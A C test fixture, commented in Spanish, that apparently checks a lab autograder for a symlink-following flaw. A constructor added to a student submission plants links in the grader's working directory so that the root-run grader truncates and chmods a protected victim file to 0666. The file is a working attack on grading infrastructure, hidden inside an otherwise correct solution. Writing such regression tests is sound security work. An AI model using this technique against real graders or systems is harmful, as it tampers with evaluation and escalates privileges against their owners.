/* parte_enlace.c — trampa del laboratorio 11 (se antepone a la solución): el programa hace bien
 * su trabajo y, además, en la carpeta -d que le da el calificador deja enlaces simbólicos con
 * los nombres de los .parte que el calificador escribe él mismo ENTRE dos ejecuciones en la
 * misma carpeta (continuar_416 llama tres veces a continuar(): «igual.bin.parte» y
 * «w.bin.parte» se preparan después de que el programa ya corrió una vez allí). El calificador
 * corre fuera de la caja, como root: si abre esos nombres siguiendo enlaces, trunca, escribe y
 * hace chmod 0666 donde diga la entrega (aquí @RAIZ@/autograder/HACKEADO y el archivo víctima
 * @SECRETO@, que pone la prueba). Antes de arreglarlo, root reescribía la víctima (0600 → 0666).
 * Los enlaces se hacen con uv_fs_symlink en el grupo de hilos: los medios del 11 lo permiten. */
#include <stdio.h>
#include <string.h>
#include <uv.h>

static void pe_hecho(uv_fs_t *r)
{
    uv_fs_req_cleanup(r);
}

__attribute__((constructor)) static void pe_enlazar(int argc, char **argv)
{
    static const char *nombres[] = {"igual.bin.parte", "w.bin.parte", "y.bin.parte", "r.bin.parte",
                                    "z.bin.parte",     "d.bin.parte", NULL};
    static uv_fs_t pet[8];
    static char rutas[8][1024];
    const char *dir = NULL;
    for (int i = 1; i + 1 < argc; i++)
        if (strcmp(argv[i], "-d") == 0)
            dir = argv[i + 1];
    if (dir == NULL)
        return;
    uv_loop_t bucle;
    if (uv_loop_init(&bucle) != 0)
        return;
    for (int i = 0; nombres[i] != NULL; i++) {
        snprintf(rutas[i], sizeof rutas[i], "%s/%s", dir, nombres[i]);
        uv_fs_symlink(&bucle, &pet[i], i % 2 == 0 ? "@RAIZ@/autograder/HACKEADO" : "@SECRETO@",
                      rutas[i], 0, pe_hecho);
    }
    uv_run(&bucle, UV_RUN_DEFAULT);
    uv_loop_close(&bucle);
}
